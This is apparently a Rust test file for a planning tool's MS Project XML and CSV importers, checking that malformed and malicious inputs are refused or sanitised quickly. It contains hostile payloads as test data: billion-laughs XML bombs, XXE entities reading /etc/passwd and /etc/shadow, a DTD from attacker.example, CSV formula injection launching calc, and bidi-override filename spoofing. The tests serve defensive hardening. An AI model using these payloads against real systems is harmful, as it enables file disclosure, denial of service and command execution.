//! Hostile files: a corpus of malformed and malicious MS Project XML files
//! (XML bombs, DTDs and external entities, deep nesting, huge files, invalid
//! UTF-8, impossible dates, negative durations, cycles, self-links, names of
//! 10,000 characters, formula-leading and bidi-laden text, damaged copies of
//! real MS Project files) is imported into a copy of the sample portfolio.
//! Each must be refused or accepted (with warnings where it was changed)
//! within two seconds; a refused one leaves the portfolio file byte for byte
//! as it was, with no snapshot taken. The run prints the figures.

mod common;

use std::time::{Duration, Instant};

use chrono::NaiveDateTime;
use gantry_api::Portfolio;

/// What a case must give.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Refused,
    /// Accepted, saying what it changed or left out.
    Warned,
    /// Accepted as it is (hostile only to a careless reader).
    Clean,
    /// Either, as long as it is quick and a refusal changes nothing
    /// (damaged copies of real files).
    Either,
}

struct Case {
    name: String,
    bytes: Vec<u8>,
    expect: Expect,
}

fn case(name: impl Into<String>, bytes: impl Into<Vec<u8>>, expect: Expect) -> Case {
    Case { name: name.into(), bytes: bytes.into(), expect }
}

/// A project around `tasks` (the inside of `<Tasks>`).
fn project(tasks: &str) -> String {
    project_with("", tasks)
}

fn project_with(head: &str, tasks: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Project xmlns=\"http://schemas.microsoft.com/project\"><Name>Hostile</Name><StartDate>2027-03-15T08:00:00</StartDate>{head}<Tasks>{tasks}</Tasks></Project>"
    )
}

fn task(uid: i64, name: &str, extra: &str) -> String {
    format!(
        "<Task><UID>{uid}</UID><ID>{uid}</ID><Name>{name}</Name><OutlineLevel>1</OutlineLevel><Duration>PT8H0M0S</Duration>{extra}</Task>"
    )
}

fn link(pred: i64) -> String {
    format!("<PredecessorLink><PredecessorUID>{pred}</PredecessorUID><Type>1</Type></PredecessorLink>")
}

/// A seeded byte scrambler for damaged copies.
fn flips(bytes: &[u8], seed: u64, count: usize) -> Vec<u8> {
    let mut out = bytes.to_vec();
    let mut x = seed | 1;
    for _ in 0..count {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let at = (x % out.len() as u64) as usize;
        out[at] = (x >> 32) as u8;
    }
    out
}

fn corpus() -> Vec<Case> {
    use Expect::*;
    let mut c = Vec::new();

    // XML bombs, DTDs and entities: never expanded, always refused.
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]><Project><Name>&lol9;</Name><StartDate>2027-03-15T08:00:00</StartDate></Project>";
    c.push(case("billion laughs", laughs, Refused));
    c.push(case(
        "external entity reading /etc/passwd",
        "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><Project><Name>&xxe;</Name><StartDate>2027-03-15T08:00:00</StartDate></Project>",
        Refused,
    ));
    c.push(case(
        "external DTD over http",
        "<?xml version=\"1.0\"?><!DOCTYPE Project SYSTEM \"http://attacker.example/evil.dtd\"><Project><StartDate>2027-03-15T08:00:00</StartDate></Project>",
        Refused,
    ));
    c.push(case(
        "parameter entity",
        "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY % remote SYSTEM \"file:///etc/shadow\">%remote;]><Project/>",
        Refused,
    ));
    c.push(case("an entity used without a DTD", project(&task(1, "&undefined;", "")), Refused));
    c.push(case("quadratic blowup attempt in a name", project(&task(1, &"&amp;".repeat(200_000), "")), Warned));
    c.push(case("a DTD after the root", format!("{}<!DOCTYPE x>", project("")), Refused));
    c.push(case("a processing instruction storm", "<?a?>".repeat(100_000) + &project(""), Either));

    // Money that is no money.
    c.push(case(
        "a fixed cost of 10^15",
        project(&task(1, "Licence", "<FixedCost>100000000000000000</FixedCost>")),
        Warned,
    ));
    c.push(case("a negative fixed cost", project(&task(1, "Refund", "<FixedCost>-50000</FixedCost>")), Warned));
    c.push(case(
        "a currency that is no ISO 4217 code",
        project_with(&format!("<CurrencyCode>{}</CurrencyCode>", "€&lt;b&gt;".repeat(3000)), &task(1, "Task", "")),
        Warned,
    ));

    // Deep nesting.
    for depth in [65usize, 1_000, 100_000] {
        let deep = format!("{}{}", "<Tasks>".repeat(depth), "</Tasks>".repeat(depth));
        c.push(case(format!("{depth} nested elements"), project_with(&deep, ""), Refused));
    }
    let deep_outline: String = (1..=300).map(|i| format!("<Task><UID>{i}</UID><Name>Level {i}</Name><OutlineLevel>{i}</OutlineLevel><Duration>PT1H0M0S</Duration></Task>")).collect();
    c.push(case("an outline 300 levels deep", project(&deep_outline), Clean));

    // Huge files.
    c.push(case("one byte over the size limit", vec![b' '; gantry_interop::xml::MAX_BYTES + 1], Refused));
    c.push(case(
        "20 MB of whitespace inside a valid file",
        project_with(&" ".repeat(20 * 1024 * 1024), &task(1, "Padded", "")),
        Clean,
    ));
    c.push(case("a 5 MB comment", project_with(&format!("<!--{}-->", "x".repeat(5 * 1024 * 1024)), ""), Clean));
    let many: String = (1..=20_000).map(|i| task(i, &format!("Task {i}"), "")).collect();
    c.push(case("20,000 tasks", project(&many), Clean));
    let chain: String =
        (1..=5_000).map(|i| task(i, &format!("Step {i}"), &if i > 1 { link(i - 1) } else { String::new() })).collect();
    c.push(case("a chain of 5,000 linked tasks", project(&chain), Clean));

    // Encodings and bytes that are not text.
    let mut bad_utf8 = project(&task(1, "Cut", "")).into_bytes();
    let at = bad_utf8.windows(3).position(|w| w == b"Cut").expect("name");
    bad_utf8.splice(at..at + 3, [0xC3, 0x28, 0xFF, 0xFE]);
    c.push(case("invalid UTF-8 in a name", bad_utf8, Either));
    let mut utf16 = vec![0xFF, 0xFE];
    for u in project(&task(1, "Wide", "")).encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    c.push(case("UTF-16 with a byte order mark", utf16, Either));
    c.push(case(
        "a UTF-8 byte order mark",
        [&[0xEF, 0xBB, 0xBF][..], project(&task(1, "BOM", "")).as_bytes()].concat(),
        Either,
    ));
    c.push(case("NUL bytes", vec![0u8; 4096], Refused));
    c.push(case("NUL inside a name", project(&task(1, "Null\0byte", "")), Either));
    c.push(case("an empty file", Vec::new(), Refused));
    c.push(case("a lone <", "<", Refused));
    c.push(case("HTML", "<!DOCTYPE html><html><body>Not a plan</body></html>", Refused));
    c.push(case("JSON", "{\"project\": \"not xml\"}", Refused));
    c.push(case("a PNG header", [&b"\x89PNG\r\n\x1a\n"[..], &[0u8; 64][..]].concat(), Refused));
    c.push(case("a ZIP (an .mpp or .gan archive)", [&b"PK\x03\x04"[..], &[7u8; 200][..]].concat(), Refused));
    c.push(case("the wrong root element", "<Plan><StartDate>2027-03-15T08:00:00</StartDate></Plan>", Refused));
    c.push(case("unclosed elements", "<Project><StartDate>2027-03-15T08:00:00</StartDate><Tasks><Task>", Refused));
    c.push(case("mismatched tags", "<Project><StartDate>2027-03-15T08:00:00</Finish></Project>", Refused));
    c.push(case("two root elements", format!("{}{}", project(""), project("")), Either));

    // Impossible and out-of-range dates.
    for start in
        ["2027-02-30T08:00:00", "2027-13-01T08:00:00", "0000-00-00T00:00:00", "tomorrow", "", "99999-01-01T08:00:00"]
    {
        let doc = format!("<Project><StartDate>{start}</StartDate><Tasks>{}</Tasks></Project>", task(1, "A", ""));
        c.push(case(format!("project start “{start}”"), doc, Refused));
    }
    for start in ["1066-10-14T08:00:00", "2999-01-01T08:00:00"] {
        let doc = format!("<Project><StartDate>{start}</StartDate><Tasks>{}</Tasks></Project>", task(1, "A", ""));
        c.push(case(format!("project start in {}", &start[..4]), doc, Refused));
    }
    for date in [
        "2027-02-29T08:00:00",
        "1899-12-31T08:00:00",
        "9999-12-31T23:59:59",
        "2027-06-31T08:00:00",
        "2027-03-15T25:00:00",
    ] {
        let extra = format!("<ConstraintType>4</ConstraintType><ConstraintDate>{date}</ConstraintDate>");
        // 2027 is no leap year; June has 30 days; a day has 24 hours.
        let expect = Warned;
        c.push(case(format!("a constraint on {date}"), project(&task(1, "Constrained", &extra)), expect));
        let actual = format!("<ActualStart>{date}</ActualStart><PercentComplete>10</PercentComplete>");
        c.push(case(format!("an actual start on {date}"), project(&task(1, "Started", &actual)), expect));
    }
    c.push(case(
        "a status date in the year 9999",
        project_with("<StatusDate>9999-01-01T17:00:00</StatusDate>", &task(1, "A", "")),
        Clean,
    ));

    // Durations and lags.
    for (label, duration) in [
        ("negative", "PT-8H0M0S"),
        ("negative days", "-P1D"),
        ("absurd", "PT999999999999H0M0S"),
        ("not a number", "PTNaNH"),
        ("huge exponent", "PT1e308H"),
        ("garbage", "eight hours"),
        ("empty", ""),
    ] {
        let doc = project(&format!(
            "<Task><UID>1</UID><Name>D</Name><OutlineLevel>1</OutlineLevel><Duration>{duration}</Duration></Task>"
        ));
        c.push(case(format!("{label} duration"), doc, Clean));
    }
    for (label, lag) in
        [("huge", "999999999999"), ("hugely negative", "-999999999999"), ("text", "soon"), ("fraction", "4.5")]
    {
        let tasks = format!(
            "{}{}",
            task(1, "A", ""),
            task(
                2,
                "B",
                &format!(
                    "<PredecessorLink><PredecessorUID>1</PredecessorUID><Type>1</Type><LinkLag>{lag}</LinkLag><LagFormat>7</LagFormat></PredecessorLink>"
                )
            )
        );
        let expect = if label.starts_with("huge") { Warned } else { Clean };
        c.push(case(format!("a {label} lag"), project(&tasks), expect));
    }
    for (label, percent) in [("negative", "-50"), ("over 100", "250"), ("text", "half")] {
        c.push(case(
            format!("{label} percent complete"),
            project(&task(1, "P", &format!("<PercentComplete>{percent}</PercentComplete>"))),
            Clean,
        ));
    }

    // Links: cycles, self-links, links to nowhere, odd types.
    c.push(case(
        "a two-task cycle",
        project(&format!("{}{}", task(1, "A", &link(2)), task(2, "B", &link(1)))),
        Refused,
    ));
    c.push(case(
        "a three-task cycle",
        project(&format!("{}{}{}", task(1, "A", &link(3)), task(2, "B", &link(1)), task(3, "C", &link(2)))),
        Refused,
    ));
    let ring: String =
        (1..=1_000).map(|i| task(i, &format!("R{i}"), &link(if i == 1 { 1_000 } else { i - 1 }))).collect();
    c.push(case("a cycle through 1,000 tasks", project(&ring), Refused));
    c.push(case(
        "a link from a summary into its own subtask",
        project(&format!(
            "<Task><UID>1</UID><Name>Phase</Name><OutlineLevel>1</OutlineLevel><Summary>1</Summary></Task><Task><UID>2</UID><Name>Inside</Name><OutlineLevel>2</OutlineLevel><Duration>PT8H0M0S</Duration>{}</Task>",
            link(1)
        )),
        Refused,
    ));
    c.push(case("a self-link", project(&task(1, "Me", &link(1))), Warned));
    c.push(case("a link to a missing task", project(&task(1, "Lonely", &link(42))), Warned));
    c.push(case(
        "a link without a predecessor",
        project(&task(1, "A", "<PredecessorLink><Type>1</Type></PredecessorLink>")),
        Clean,
    ));
    c.push(case(
        "a link type 9",
        project(&format!(
            "{}{}",
            task(1, "A", ""),
            task(2, "B", "<PredecessorLink><PredecessorUID>1</PredecessorUID><Type>9</Type></PredecessorLink>")
        )),
        Clean,
    ));
    c.push(case(
        "the same link 500 times",
        project(&format!("{}{}", task(1, "A", ""), task(2, "B", &link(1).repeat(500)))),
        Either,
    ));

    // Task identity and outline.
    c.push(case(
        "a task without a UID",
        project("<Task><Name>Anonymous</Name><OutlineLevel>1</OutlineLevel></Task>"),
        Warned,
    ));
    c.push(case("duplicate UIDs", project(&format!("{}{}", task(7, "First", ""), task(7, "Second", ""))), Either));
    c.push(case("a UID that is text", project("<Task><UID>seven</UID><Name>T</Name></Task>"), Warned));
    c.push(case(
        "a UID beyond 64 bits",
        project("<Task><UID>99999999999999999999999</UID><Name>T</Name></Task>"),
        Warned,
    ));
    for level in ["0", "-1", "1000000000", "x"] {
        c.push(case(
            format!("outline level {level}"),
            project(&format!(
                "{}<Task><UID>2</UID><Name>L</Name><OutlineLevel>{level}</OutlineLevel></Task>",
                task(1, "A", "")
            )),
            Clean,
        ));
    }
    c.push(case("no tasks at all", project(""), Clean));
    c.push(case("no start date", "<Project><Name>Undated</Name><Tasks/></Project>", Refused));

    // Text: long names, formulas, bidi and control characters.
    c.push(case("a name of 10,000 characters", project(&task(1, &"N".repeat(10_000), "")), Warned));
    c.push(case(
        "a project name of 10,000 characters",
        project_with("", "").replace("<Name>Hostile</Name>", &format!("<Name>{}</Name>", "P".repeat(10_000))),
        Clean,
    ));
    c.push(case(
        "notes of a million characters",
        project(&task(1, "Noted", &format!("<Notes>{}</Notes>", "n".repeat(1_000_000)))),
        Warned,
    ));
    c.push(case("a name of only spaces", project(&task(1, "     ", "")), Warned));
    for formula in [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=HYPERLINK(\"http://x.example\",\"click\")",
    ] {
        let escaped = formula.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
        c.push(case(format!("a formula-leading name {formula}"), project(&task(1, &escaped, "")), Clean));
    }
    for (label, text) in [
        ("right-to-left override", "invoice\u{202E}fdp.exe"),
        ("isolates", "\u{2067}hidden\u{2069} name"),
        ("a bell and a backspace", "ring&#7;&#8;me"),
        ("a vertical tab", "tab&#11;bed"),
    ] {
        c.push(case(format!("{label} in a name"), project(&task(1, text, "")), Warned));
    }
    c.push(case("an invalid character reference", project(&task(1, "bad &#0; ref", "")), Either));
    c.push(case("a character reference beyond Unicode", project(&task(1, "&#x110000;", "")), Either));
    c.push(case("markup in a name", project(&task(1, "&lt;script&gt;alert(1)&lt;/script&gt;", "")), Clean));

    // Calendars.
    let calendar = |inner: &str| {
        project_with(
            &format!(
                "<CalendarUID>1</CalendarUID><Calendars><Calendar><UID>1</UID><Name>Odd</Name><IsBaseCalendar>1</IsBaseCalendar>{inner}</Calendar></Calendars>"
            ),
            &task(1, "On the odd calendar", ""),
        )
    };
    c.push(case(
        "a weekday 9",
        calendar("<WeekDays><WeekDay><DayType>9</DayType><DayWorking>1</DayWorking></WeekDay></WeekDays>"),
        Either,
    ));
    c.push(case(
        "a working time that ends before it starts",
        calendar("<WeekDays><WeekDay><DayType>2</DayType><DayWorking>1</DayWorking><WorkingTimes><WorkingTime><FromTime>17:00:00</FromTime><ToTime>08:00:00</ToTime></WorkingTime></WorkingTimes></WeekDay></WeekDays>"),
        Either,
    ));
    c.push(case(
        "no working time at all",
        calendar(&format!(
            "<WeekDays>{}</WeekDays>",
            (1..=7)
                .map(|d| format!("<WeekDay><DayType>{d}</DayType><DayWorking>0</DayWorking></WeekDay>"))
                .collect::<String>()
        )),
        Either,
    ));
    c.push(case(
        "an exception of a thousand years",
        calendar("<Exceptions><Exception><EnteredByOccurrences>0</EnteredByOccurrences><TimePeriod><FromDate>1500-01-01T00:00:00</FromDate><ToDate>2500-12-31T23:59:00</ToDate></TimePeriod><Type>1</Type><DayWorking>0</DayWorking></Exception></Exceptions>"),
        Either,
    ));
    c.push(case(
        "a recurrence of a billion occurrences",
        calendar("<Exceptions><Exception><EnteredByOccurrences>1</EnteredByOccurrences><TimePeriod><FromDate>2027-01-01T00:00:00</FromDate><ToDate>2027-01-01T23:59:00</ToDate></TimePeriod><Occurrences>1000000000</Occurrences><Type>1</Type><Period>1</Period><DayWorking>0</DayWorking></Exception></Exceptions>"),
        Either,
    ));
    c.push(case(
        "a calendar based on itself",
        calendar("<BaseCalendarUID>1</BaseCalendarUID>")
            .replace("<IsBaseCalendar>1</IsBaseCalendar>", "<IsBaseCalendar>0</IsBaseCalendar>"),
        Either,
    ));
    c.push(case(
        "minutes per day of -480",
        project_with("<MinutesPerDay>-480</MinutesPerDay>", &task(1, "A", "")),
        Clean,
    ));
    c.push(case(
        "minutes per day of 1e300",
        project_with("<MinutesPerDay>1e300</MinutesPerDay>", &task(1, "A", "")),
        Either,
    ));

    // People: resources and assignments.
    let people = |resources: &str, assignments: &str| {
        project(&task(1, "Build", "")).replace(
            "</Tasks>",
            &format!("</Tasks><Resources>{resources}</Resources><Assignments>{assignments}</Assignments>"),
        )
    };
    let resource = |uid: i64, inner: &str| format!("<Resource><UID>{uid}</UID><Type>1</Type>{inner}</Resource>");
    let on_build = |uid: &str, units: &str| {
        format!("<Assignment><TaskUID>1</TaskUID><ResourceUID>{uid}</ResourceUID><Units>{units}</Units></Assignment>")
    };
    c.push(case(
        "a person named with 10,000 characters",
        people(&resource(1, &format!("<Name>{}</Name>", "P".repeat(10_000))), &on_build("1", "1")),
        Warned,
    ));
    c.push(case(
        "a person's name with a bidi override",
        people(&resource(1, "<Name>admin\u{202E}nimda</Name>"), &on_build("1", "1")),
        Warned,
    ));
    for (what, inner) in [
        ("an e-mail address that is not one", "<EmailAddress>not an address</EmailAddress>"),
        ("a rate that is not a number", "<StandardRate>NaN</StandardRate>"),
        ("a negative rate", "<StandardRate>-80</StandardRate>"),
        ("a rate of 1e300", "<StandardRate>1e300</StandardRate>"),
    ] {
        c.push(case(
            format!("a person with {what}"),
            people(&resource(1, &format!("<Name>Ana</Name>{inner}")), &on_build("1", "1")),
            Warned,
        ));
    }
    c.push(case(
        "units of 1e300 and -5",
        people(
            &format!(
                "{}{}",
                resource(1, "<Name>Ana</Name><MaxUnits>1e300</MaxUnits>"),
                resource(2, "<Name>Ben</Name>")
            ),
            &format!("{}{}", on_build("1", "-5"), on_build("2", "1e300")),
        ),
        Clean,
    ));
    c.push(case(
        "assignment work of minus eight hours and of a million years",
        people(
            &format!("{}{}", resource(1, "<Name>Ana</Name>"), resource(2, "<Name>Ben</Name>")),
            "<Assignment><TaskUID>1</TaskUID><ResourceUID>1</ResourceUID><Work>-PT8H0M0S</Work></Assignment>\
             <Assignment><TaskUID>1</TaskUID><ResourceUID>2</ResourceUID><Work>PT9999999999H0M0S</Work><Units>0</Units></Assignment>",
        ),
        Clean,
    ));
    c.push(case(
        "a person on a calendar that is not there, and on one that is their own",
        people(
            &format!(
                "{}{}",
                resource(1, "<Name>Ana</Name><CalendarUID>77</CalendarUID>"),
                resource(2, "<Name>Ben</Name><CalendarUID>2</CalendarUID>")
            ),
            &on_build("2", "1"),
        )
        .replace(
            "<Tasks>",
            "<Calendars><Calendar><UID>2</UID><Name>Ben</Name><IsBaseCalendar>0</IsBaseCalendar><BaseCalendarUID>1</BaseCalendarUID>\
             <Exceptions><Exception><TimePeriod><FromDate>2027-03-15T00:00:00</FromDate><ToDate>2027-03-19T23:59:00</ToDate></TimePeriod>\
             <DayWorking>0</DayWorking></Exception></Exceptions></Calendar></Calendars><Tasks>",
        ),
        Clean,
    ));
    c.push(case(
        "assignments to a task and a person that are not there",
        people(
            &resource(1, "<Name>Ana</Name>"),
            "<Assignment><TaskUID>99</TaskUID><ResourceUID>1</ResourceUID></Assignment><Assignment><TaskUID>1</TaskUID><ResourceUID>7</ResourceUID></Assignment><Assignment><TaskUID>x</TaskUID></Assignment>",
        ),
        Clean,
    ));
    c.push(case(
        "a material priced at 10^15 a unit",
        people(
            "<Resource><UID>1</UID><Name>Gold cable</Name><Type>0</Type><StandardRate>1000000000000000</StandardRate></Resource>",
            &on_build("1", "1"),
        ),
        Warned,
    ));
    c.push(case(
        "material and cost resources, kept as such",
        people(
            "<Resource><UID>1</UID><Name>Cables</Name><Type>0</Type></Resource><Resource><UID>2</UID><Name>Travel</Name><Type>2</Type></Resource>",
            &on_build("1", "1"),
        ),
        Clean,
    ));
    c.push(case(
        "10,001 people",
        people(&(1..=10_001).map(|i| resource(i, &format!("<Name>P{i}</Name>"))).collect::<String>(), ""),
        Refused,
    ));

    // Damaged copies of real MS Project files.
    for (i, file) in common::mspdi_fixtures().iter().enumerate() {
        let bytes = std::fs::read(file).expect("fixture");
        let stem = file.file_stem().map(|s| s.to_string_lossy().into_owned()).unwrap_or_default();
        c.push(case(format!("{stem}, whole"), bytes.clone(), Either));
        for cut in [10, 50, 90] {
            c.push(case(format!("{stem}, cut at {cut} %"), bytes[..bytes.len() * cut / 100].to_vec(), Refused));
        }
        c.push(case(format!("{stem}, 40 bytes scrambled"), flips(&bytes, 17 + i as u64, 40), Either));
    }
    c
}

#[test]
fn every_hostile_file_is_refused_or_accepted_quickly_and_a_refusal_changes_nothing() {
    let now = NaiveDateTime::parse_from_str("2026-11-24 10:00", "%Y-%m-%d %H:%M").expect("now");
    let corpus = corpus();
    assert!(corpus.len() >= 100, "the corpus has {} files", corpus.len());
    let figures = run(&corpus, |p, bytes| p.import_mspdi(bytes, "hostile.xml", now));
    println!("hostile files: {figures}");
}

/// Imports every case of `corpus` into a fresh copy of the sample with
/// `import`: each must be refused, or accepted with what it changed said,
/// within 2 seconds; a refusal must leave the file byte for byte as it was,
/// with no snapshot. Returns the figures, for a person.
fn run(
    corpus: &[Case],
    import: impl Fn(&mut Portfolio, &[u8]) -> gantry_api::Result<gantry_api::wire::Imported>,
) -> String {
    let (mut refused, mut warned, mut clean) = (0, 0, 0);
    let mut slowest = (Duration::ZERO, String::new());
    let mut wrong = Vec::new();
    for case in corpus {
        let (_dir, path) = common::sample_copy();
        let before = std::fs::read(&path).expect("bytes");
        let mut p = Portfolio::open(&path).expect("opens");
        let projects = p.projects().expect("projects").len();
        let started = Instant::now();
        let result = import(&mut p, &case.bytes);
        // An accepted file must also schedule and show in the same time.
        if let Ok(imported) = &result {
            let plan = p.plan(imported.project_id).expect("the imported plan schedules");
            assert_eq!(plan.tasks.len() as i64, imported.tasks, "{}", case.name);
            for t in &plan.tasks {
                assert!(t.name.chars().count() <= 250 && !t.name.contains('\u{202E}'), "{}: {:?}", case.name, t.name);
            }
            for m in p.team().expect("team") {
                assert!(m.name.chars().count() <= 250 && !m.name.contains('\u{202E}'), "{}: {:?}", case.name, m.name);
                assert!(
                    m.standard_rate >= 0 && m.overtime_rate >= 0 && m.cost_per_use >= 0,
                    "{}: rates of {}",
                    case.name,
                    m.name
                );
                assert!((1..=1000).contains(&m.max_units), "{}: max units {}", case.name, m.max_units);
            }
        }
        let took = started.elapsed();
        if took > slowest.0 {
            slowest = (took, case.name.clone());
        }
        assert!(took < Duration::from_secs(2), "{} took {took:?}", case.name);
        let got = match &result {
            Err(e) => {
                assert!(!e.to_string().is_empty(), "{}: an empty message", case.name);
                assert_eq!(p.projects().expect("projects").len(), projects);
                drop(p);
                assert!(std::fs::read(&path).expect("bytes") == before, "{}: the refusal changed the file", case.name);
                assert!(gantry_store::snapshot::list(&path).is_empty(), "{}: a refusal took a snapshot", case.name);
                refused += 1;
                Expect::Refused
            }
            Ok(imported) if !imported.warnings.is_empty() => {
                warned += 1;
                Expect::Warned
            }
            Ok(_) => {
                clean += 1;
                Expect::Clean
            }
        };
        if case.expect != Expect::Either && case.expect != got {
            wrong.push(format!(
                "{}: expected {:?}, got {:?} ({:?})",
                case.name,
                case.expect,
                got,
                result.err().map(|e| e.to_string())
            ));
        }
    }
    assert!(wrong.is_empty(), "{} cases went the wrong way:\n{}", wrong.len(), wrong.join("\n"));
    format!(
        "{} inputs, {refused} refused, {warned} accepted with warnings, {clean} accepted as they are; slowest {} ms ({}); every refusal left the portfolio byte for byte unchanged",
        corpus.len(),
        slowest.0.as_millis(),
        slowest.1
    )
}

/// CSV files as Jira, a spreadsheet or an attacker might write them.
fn csv_corpus() -> Vec<Case> {
    use Expect::*;
    let jira = std::fs::read(std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data/jira-crm.csv"))
        .expect("the Jira export");
    let mut c = vec![
        case("a million columns", format!("{}\nx\n", ",".repeat(1_000_000)), Refused),
        case("more than 100,000 rows", format!("Summary\n{}", "task\n".repeat(100_001)), Refused),
        case("70 MB of padding", vec![b'a'; 70 * 1024 * 1024], Refused),
        case("empty", "", Refused),
        case("binary", vec![0u8, 159, 146, 150, 0, 0, 1, 2, 3], Refused),
        case("a header only", "Summary,Issue key\n", Refused),
        case("no name column", "Status,Owner\nDone,Ana\n", Refused),
        case("a key twice", "Summary,Issue key\nA,K-1\nB,K-1\n", Refused),
        case("a circle of two", "Summary,Issue key,Blocked by\nA,K-1,K-2\nB,K-2,K-1\n", Refused),
        case("a name of 10,000 characters", format!("Summary\n{}\n", "x".repeat(10_000)), Warned),
        case("a formula and a bidi override", "Summary\n=cmd|' /C calc'!A0\ninvoice\u{202E}fdp.exe\n", Warned),
        case("dates that do not exist", "Summary,Start,Due date\nA,2027-02-30,2027-13-01\n", Warned),
        case("a negative and an absurd estimate", "Summary,Original estimate\nA,-3600\nB,1e300\n", Warned),
        case("a parent under its child", "Summary,Issue key,Parent\nA,K-1,K-2\nB,K-2,K-1\n", Warned),
        case("a predecessor nobody has", "Summary,Issue key,Blocked by\nA,K-1,K-99\n", Warned),
        case(
            "200 labels",
            format!(
                "Summary,{}\nA,{}\n",
                vec!["Labels"; 200].join(","),
                (0..200).map(|i| format!("l{i}")).collect::<Vec<_>>().join(",")
            ),
            Warned,
        ),
        case("an unclosed quote", "Summary,Notes\nA,\"never closed\nB,x\n", Either),
        case("invalid UTF-8", b"Summary\n\xff\xfe\xfd task\n".to_vec(), Either),
        case("UTF-16 of odd length", b"\xff\xfeS\x00u\x00m\x00\n".to_vec(), Either),
    ];
    let chain: String = (1..=1000)
        .map(|i| format!("T{i},K-{i},{}\n", if i > 1 { format!("K-{}", i - 1) } else { "K-1000".into() }))
        .collect();
    c.push(case("a circle of 1,000", format!("Summary,Issue key,Blocked by\n{chain}"), Refused));
    for cut in [10, 50, 90] {
        c.push(case(format!("the Jira export cut at {cut} %"), jira[..jira.len() * cut / 100].to_vec(), Either));
    }
    for seed in 1..=5 {
        c.push(case(format!("the Jira export, 40 bytes scrambled ({seed})"), flips(&jira, seed, 40), Either));
    }
    c
}

#[test]
fn every_hostile_csv_file_is_refused_or_accepted_quickly_and_a_refusal_changes_nothing() {
    let now = NaiveDateTime::parse_from_str("2026-11-24 10:00", "%Y-%m-%d %H:%M").expect("now");
    let figures = run(&csv_corpus(), |p, bytes| p.import_file(bytes, "hostile.csv", now));
    println!("hostile CSV files: {figures}");
}

#[test]
fn an_accepted_import_keeps_formulas_as_text_and_is_one_undo_step_after_a_snapshot() {
    let (_dir, path) = common::sample_copy();
    let mut p = Portfolio::open(&path).expect("opens");
    let projects = p.projects().expect("projects").len();
    let now = NaiveDateTime::parse_from_str("2026-11-24 10:00", "%Y-%m-%d %H:%M").expect("now");
    let doc = project(&format!("{}{}", task(1, "=cmd|' /C calc'!A0", ""), task(2, "invoice\u{202E}fdp.exe", &link(1))));
    let imported = p.import_mspdi(doc.as_bytes(), "formulas.xml", now).expect("imported");
    let plan = p.plan(imported.project_id).expect("plan");
    assert_eq!(plan.tasks[0].name, "=cmd|' /C calc'!A0", "a formula is kept as the text it is");
    assert_eq!(plan.tasks[1].name, "invoicefdp.exe", "the override is removed");
    assert!(imported.warnings.iter().any(|w| w.contains("control characters")), "{:?}", imported.warnings);
    assert_eq!(plan.links.len(), 1);
    let snapshots = gantry_store::snapshot::list(&path);
    assert_eq!(snapshots.len(), 1);
    assert_eq!(snapshots[0].reason, gantry_store::SnapshotReason::BeforeImport);
    assert_eq!(p.undo().expect("undo").as_deref(), Some("Import “Hostile”"));
    assert_eq!(p.projects().expect("projects").len(), projects, "undo takes the whole import back");
}
